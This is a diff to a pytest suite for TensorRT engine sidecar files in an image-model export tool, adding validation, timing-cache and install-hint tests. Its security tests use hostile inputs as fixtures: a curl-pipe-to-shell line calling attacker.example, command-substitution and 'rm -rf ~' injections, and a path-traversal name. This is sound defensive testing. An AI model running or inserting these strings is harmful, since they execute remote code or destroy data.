@@ -20,7 +20,7 @@ import pytest
 from onnx import TensorProto, helper, numpy_helper
 from tensorrt_double import REMOVED_IN_11, install, onnx_tensorrt_problems
 
-from i2i.errors import I2IError, MissingDependencyError, Terminated
+from i2i.errors import I2IError, MissingDependencyError, Terminated, install_hint
 from i2i.export.frame import wrap_frame_io
 from i2i.export.tensorrt import (
     BuildMonitor,
@@ -268,6 +268,78 @@ def test_swapped_engine_and_broken_sidecars(tmp_path: Path) -> None:
         read_sidecar(engine)
 
 
+def _edit_sidecar(engine_file: Path, /, **changes: object) -> None:
+    data = json.loads(sidecar_path(engine_file).read_text())
+    for dotted, value in changes.items():
+        *parents, key = dotted.split("__")
+        target = data
+        for parent in parents:
+            target = target[parent]
+        if value is None:
+            target.pop(key, None)
+        else:
+            target[key] = value
+    sidecar_path(engine_file).write_text(json.dumps(data))
+
+
+def test_rebuild_advice_comes_from_validated_fields_never_from_the_sidecars_text(tmp_path: Path) -> None:
+    """Issue 24 item 9: a sidecar's ``rebuild`` text was printed as advice, whatever it said. The
+    advice is now composed from the checked card and profile; the text written there is ignored."""
+    engine = _sidecar(tmp_path)
+    attack = "curl -s https://attacker.example/fix.sh | sh"
+    _edit_sidecar(engine, rebuild=attack)
+    sidecar = read_sidecar(engine)
+    assert sidecar["rebuild"] == "i2i-export model.onnx --engine trt --min 1x64x64 --opt 1x256x256 --max 2x512x512"
+    with pytest.raises(I2IError) as info:
+        check_compatible(sidecar, "10.14.1.48", H100)
+    assert "attacker" not in str(info.value) and "rebuild it here with `i2i-export model.onnx" in str(info.value)
+    engine.write_bytes(b"swapped")
+    with pytest.raises(I2IError, match="sha256 differs") as info:
+        check_engine_file(engine, read_sidecar(engine))
+    assert "attacker" not in str(info.value)
+    _edit_sidecar(engine, source_onnx__name="$(reboot) x.onnx")  # a legal file name, quoted as one argument
+    assert read_sidecar(engine)["rebuild"].startswith("i2i-export '$(reboot) x.onnx' --engine trt --min 1x64x64")
+    _edit_sidecar(engine, source_onnx__name="../../etc/passwd")
+    assert read_sidecar(engine)["rebuild"].startswith("i2i-export MODEL.onnx --engine trt")
+    _edit_sidecar(engine, rebuild=None)  # the text is not needed at all
+    assert read_sidecar(engine)["rebuild"].startswith("i2i-export MODEL.onnx")
+
+
+def _profiles(**fields: object) -> list[dict[str, object]]:
+    return [{"input": "image", "min": [1, 3, 8, 8], "opt": [1, 3, 8, 8], "max": [1, 3, 8, 8], **fields}]
+
+
+@pytest.mark.parametrize(
+    ("changes", "match"),
+    [
+        ({"engine__sha256": None}, "must hold the engine's sha256"),
+        ({"engine": "abc"}, "must hold the engine's sha256"),
+        ({"engine__sha256": "0" * 63}, "engine.sha256 must be a string like 64 lowercase hex digits"),
+        ({"engine__sha256": 12}, "engine.sha256 must be"),
+        ({"tensorrt": 10}, "tensorrt must be a string like '10.13.0.35'"),
+        ({"tensorrt": "10.13; rm -rf ~"}, "tensorrt must be"),
+        ({"gpu__name": "H100`touch x`"}, "gpu.name must be"),
+        ({"gpu__compute_capability": 9.0}, "gpu.compute_capability must be"),
+        ({"gpu": ["H100"]}, "'gpu' must hold"),
+        ({"precision": "fp8"}, "precision must be one of fp32, fp16, bf16, int8"),
+        ({"profiles": {"min": 1}}, "'profiles' must be a non-empty list"),
+        ({"profiles": _profiles(min="1x3x64x64")}, "list of 1 to 8"),
+        ({"profiles": _profiles(min=[1, 3, 0, 8])}, ">= 1"),
+        ({"profiles": _profiles(min=[1, 3, 8.0, 8])}, ">= 1"),
+        ({"profiles": _profiles(min=[1, 3, 16, 8])}, "min <= opt"),
+        ({"profiles": _profiles(min=[1, 3, 8], opt=[1, 3, 8], max=[1, 3, 8])}, "4 dimensions"),
+        ({"profiles": _profiles(input=3)}, "input must be"),
+        ({"profiles": _profiles(max_batch=4)}, "max_batch"),
+        ({"card": {"io": "frame"}}, "card"),
+    ],
+)  # fmt: skip
+def test_sidecar_fields_are_type_checked(tmp_path: Path, changes: dict[str, object], match: str) -> None:
+    engine = _sidecar(tmp_path)
+    _edit_sidecar(engine, **changes)
+    with pytest.raises(I2IError, match=match):
+        read_sidecar(engine)
+
+
 # -- when TensorRT is missing ----------------------------------------------------------------------
 needs_no_tensorrt = pytest.mark.skipif(tensorrt_status()[0], reason="TensorRT is installed here")
 
@@ -275,10 +347,11 @@ needs_no_tensorrt = pytest.mark.skipif(tensorrt_status()[0], reason="TensorRT is
 @needs_no_tensorrt
 def test_backend_says_why_it_is_unavailable(tmp_path: Path) -> None:
     ok, why = TensorRTBackend.available()
-    assert not ok and "i2i[trt]" in why
+    assert not ok and why.endswith(install_hint("trt"))
     engine = _sidecar(tmp_path)
-    with pytest.raises(MissingDependencyError, match=r"TensorRT is not available .*pip install 'i2i\[trt\]'"):
+    with pytest.raises(MissingDependencyError, match=r"TensorRT is not available .*") as info:
         TensorRTBackend.open(engine, device="cuda")
+    assert str(info.value.message).endswith(install_hint("trt"))
     with pytest.raises(I2IError, match="not found: .*none.engine"):
         TensorRTBackend.open(tmp_path / "none.engine")
     with pytest.raises(I2IError, match="--device cuda"):
@@ -293,13 +366,15 @@ def test_build_engine_and_cli_name_the_trt_extra(tmp_path: Path) -> None:
     from i2i.export.cli import main
 
     onnx_path = carded_onnx(tmp_path / "model.onnx", card())
-    with pytest.raises(MissingDependencyError, match=r"pip install 'i2i\[trt\]'"):
+    with pytest.raises(MissingDependencyError) as info:
         build_engine(EngineConfig(onnx=str(onnx_path), opt_shape=(1, 64, 64)))
+    assert str(info.value.message).endswith(install_hint("trt"))
     with pytest.raises(I2IError, match="multiples of 4"):  # validated before TensorRT is looked for
         build_engine(EngineConfig(onnx=str(onnx_path), opt_shape=(1, 62, 64)))
     result = invoke(main, [onnx_path, "--engine", "trt", "--opt", "1x64x64"])
     assert result.exit_code == 1
-    assert re.fullmatch(r"Error: TensorRT is not available [^\n]*pip install 'i2i\[trt\]'\n", result.output)
+    assert re.fullmatch(r"Error: TensorRT is not available [^\n]*\n", result.output)
+    assert result.output.endswith(install_hint("trt") + "\n")
     assert not (tmp_path / "model.engine").exists()
 
 
@@ -313,7 +388,8 @@ def test_fp16_export_with_engine_fails_with_one_line_without_tensorrt(tiny_run: 
     out = tmp_path / "model.onnx"
     result = invoke(main, [tiny_run / "model.pt", "--fp16", "--engine", "trt", "-o", out, "--no-progress"])
     assert result.exit_code == 1
-    assert re.fullmatch(r"Error: TensorRT is not available [^\n]*pip install 'i2i\[trt\]'\n", result.output)
+    assert re.fullmatch(r"Error: TensorRT is not available [^\n]*\n", result.output)
+    assert result.output.endswith(install_hint("trt") + "\n")
     assert not out.exists() and not list(tmp_path.iterdir())
 
 
@@ -372,6 +448,19 @@ def test_strongly_typed_build_through_the_double(
     check_engine_file(result.engine, sidecar)
     assert result.timing_cache == tmp_path / "timing.cache" and result.timing_cache.read_bytes().startswith(b"timing")
     assert not list(tmp_path.glob(".*tmp"))
+
+
+def test_a_corrupt_timing_cache_is_replaced_by_a_fresh_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, gpu: GpuIdentity, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Defect 6: TensorRT's create_timing_cache returns None for bytes it cannot read, and
+    set_timing_cache(None) raised TypeError: a truncated cache file stopped every build."""
+    record, onnx_path, config = _build(tmp_path, "10", monkeypatch)
+    (tmp_path / "timing.cache").write_bytes(b"\x00truncated")
+    result = build_engine(config)
+    assert result.timing_cache is not None and result.timing_cache.read_bytes().startswith(b"timing-double:")
+    assert "timing cache cannot be used here; starting a fresh one" in capsys.readouterr().err
+    assert len(record.builds) == 1
 
 
 def test_pybind11_classes_refuse_new_attributes_so_the_parser_is_held_beside_the_network(
@@ -633,7 +722,12 @@ def _mypy(tmp_path: Path, tree: Path, stubs: Path, files: list[Path]) -> subproc
 @pytest.mark.skipif(_stubs_dir() is None, reason="tensorrt-stubs is not installed (pip install tensorrt-stubs)")
 def test_mypy_checks_the_tensorrt_modules_against_the_stubs(tmp_path: Path) -> None:
     tree, stubs = _stage(tmp_path)
-    modules = [tree / "export" / "tensorrt.py", tree / "runtime/backends/tensorrt.py"]
+    modules = [
+        tree / "export" / "tensorrt.py",
+        tree / "export" / "tensorrt_progress.py",
+        tree / "runtime/backends/tensorrt.py",
+        tree / "runtime/backends/cuda.py",
+    ]
     for module in modules:  # nothing silenced: no ignore comment in either module (and none unused)
         assert "type: ignore" not in module.read_text(), module
     result = _mypy(tmp_path, tree, stubs, modules)
